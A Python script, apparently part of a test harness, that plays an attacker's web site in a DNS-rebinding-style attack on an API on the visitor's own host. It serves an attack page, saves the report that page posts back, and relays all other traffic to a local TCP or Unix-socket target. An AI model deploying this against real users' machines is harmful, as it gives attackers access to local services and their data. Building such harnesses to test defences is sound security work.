"""A web site that wants at an API on the visitor's own host.

    attacker.py <folder> <address>:<port>[=<target>]…

What is below /attacker/ is the site's: its page, and the report that the page sends, which is put
into the folder as `report`. Everything else is passed to the target byte by byte, as a name does
that leads to the site at first and to the visitor's own host later, or as `ssh -L` does. A target is
`tcp:<address>:<port>` or `unix:<path>`.
"""

import os
import socket
import socketserver
import sys
import threading

PAGE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attack.html")


def connected(target):
    kind, _, place = target.partition(":")
    if kind == "unix":
        upstream = socket.socket(socket.AF_UNIX)
        upstream.connect(place)
        return upstream
    host, _, port = place.rpartition(":")
    return socket.create_connection((host, int(port)))


def pump(source, sink):
    try:
        while data := source.recv(65536):
            sink.sendall(data)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        pass


class Visit(socketserver.BaseRequestHandler):
    def handle(self):
        data = b""
        while b"\r\n\r\n" not in data:
            more = self.request.recv(65536)
            if not more:
                return
            data += more
        head, _, body = data.partition(b"\r\n\r\n")
        path = head.split(b" ", 2)[1]
        if path.startswith(b"/attacker/"):
            self.answer(path, head, body)
        elif self.server.target:
            self.relay(data)

    def relay(self, data):
        with connected(self.server.target) as upstream:
            upstream.sendall(data)
            there = threading.Thread(target=pump, args=(self.request, upstream), daemon=True)
            there.start()
            pump(upstream, self.request)

    def answer(self, path, head, body):
        content = b""
        if path.startswith(b"/attacker/report"):
            length = next(
                int(line.split(b":")[1])
                for line in head.split(b"\r\n")
                if line.lower().startswith(b"content-length:")
            )
            while len(body) < length:
                body += self.request.recv(65536)
            part = os.path.join(self.server.folder, "report.part")
            with open(part, "wb") as file:
                file.write(body)
            os.rename(part, os.path.join(self.server.folder, "report"))
        else:
            with open(PAGE, "rb") as file:
                content = file.read()
        self.request.sendall(
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close\r\n"
            b"Content-Length: %d\r\n\r\n%s" % (len(content), content)
        )


class Site(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def main(folder, places):
    for place in places:
        address, _, target = place.partition("=")
        host, _, port = address.rpartition(":")
        site = Site((host, int(port)), Visit)
        site.folder, site.target = folder, target
        threading.Thread(target=site.serve_forever).start()
    with open(os.path.join(folder, "listening"), "w"):
        pass


main(sys.argv[1], sys.argv[2:])
